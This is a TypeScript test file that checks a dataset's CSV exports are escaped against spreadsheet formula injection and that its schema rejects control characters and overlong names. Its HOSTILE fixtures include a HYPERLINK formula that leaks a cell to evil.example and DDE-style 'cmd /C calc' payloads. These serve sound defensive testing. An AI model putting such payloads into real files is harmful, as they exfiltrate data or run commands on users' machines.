/**
 * The downloads (`records.csv`, `citations.csv`) are safe to open in a
 * spreadsheet: records with hostile names are built into CSVs, which a strict
 * reader (csv-parse with its defaults) must accept, every row as wide as the
 * header, and no text cell may start a formula. The schema refuses what no real
 * name needs: control characters, and texts far longer than any real one.
 */
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildDataset, sharedAtlas } from '../../geo/dataset.ts';
import { buildOutputs } from '../../geo/outputs.ts';
import { TEXT_MAX } from '../../geo/schema.ts';
import { toCsv } from '../../geo/output.ts';
import { validTables, writeSeeds } from '../helpers/seeds-fixture.ts';

/** What a spreadsheet program evaluates when a cell starts with it (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMERIC = new Set(['lon', 'lat', 'value', 'year_start', 'year_end', 'project_no']);

const HOSTILE = {
  name_en: '=HYPERLINK("http://evil.example/?leak="&B2,"Click for the source")',
  name_zh: "+项目|' /C calc'!A0",
  summary_en: "@SUM(1+1)*cmd|' /C calc'!A0",
  summary_zh: "-2+3+项目|' /C calc'!A0",
};

/** Reads a CSV as strictly as csv-parse does by default (same column count on every row, quotes closed). */
function strictRows(csv: string): string[][] {
  return parse(csv, { bom: true }) as string[][];
}

beforeAll(() => {
  sharedAtlas('intl');
  sharedAtlas('cn');
}, 180_000);

describe('CSV downloads', () => {
  it('neutralises every text cell a spreadsheet would evaluate, keeps numbers numbers and gives every row the header’s width', () => {
    const t = validTables();
    Object.assign(t.projects[0]!, HOSTILE);
    Object.assign(t.events[0]!, { ...HOSTILE, name_en: '-1+1 forum', summary_en: '=1+1' });
    const files = buildOutputs(writeSeeds(t));
    for (const name of ['records.csv', 'citations.csv']) {
      const rows = strictRows(files.get(name)!);
      const [header, ...body] = rows;
      expect(body.length, name).toBeGreaterThan(38);
      for (const [i, row] of body.entries()) {
        expect(row, `${name} row ${i + 1}`).toHaveLength(header!.length);
        row.forEach((cell, c) => {
          if (NUMERIC.has(header![c]!)) expect(cell === '' || Number.isFinite(Number(cell)), `${name} ${header![c]} “${cell}”`).toBe(true);
          else expect(cell, `${name} row ${i + 1}, ${header![c]}`).not.toMatch(FORMULA_START);
        });
      }
    }
    // The hostile names arrive whole, behind the apostrophe a spreadsheet hides.
    const records = strictRows(files.get('records.csv')!);
    const col = (name: string) => records[0]!.indexOf(name);
    const project = records.find((r) => r[col('id')] === 'project-01')!;
    expect(project[col('name_en')]).toBe(`'${HOSTILE.name_en}`);
    expect(project[col('summary_zh')]).toBe(`'${HOSTILE.summary_zh}`);
    // A negative longitude stays a number (the Americas are west of Greenwich).
    expect(toCsv(['lon', 'name'], [[-77.0365, '-x']])).toBe("\ufefflon,name\r\n-77.0365,'-x\r\n");
  }, 120_000);

  it('refuses a control character or an overlong text in a record, naming record and field', () => {
    const t = validTables();
    t.projects[2]!.name_en = 'Key project\t3';
    t.projects[3]!.summary_en = 'A summary with an escape \u001b[31m';
    t.projects[4]!.name_zh = '项'.repeat(TEXT_MAX.name + 1);
    const issues = buildDataset(writeSeeds(t)).issues;
    const find = (record: string, field: string) => issues.find((i) => i.record === record && i.field === field);
    expect(find('project-03', 'name_en')?.message).toMatch(/control character \(U\+0009\)/);
    expect(find('project-04', 'summary_en')?.message).toMatch(/control character \(U\+001B\)/);
    expect(find('project-05', 'name_zh')?.message).toMatch(/300/);
  });
});
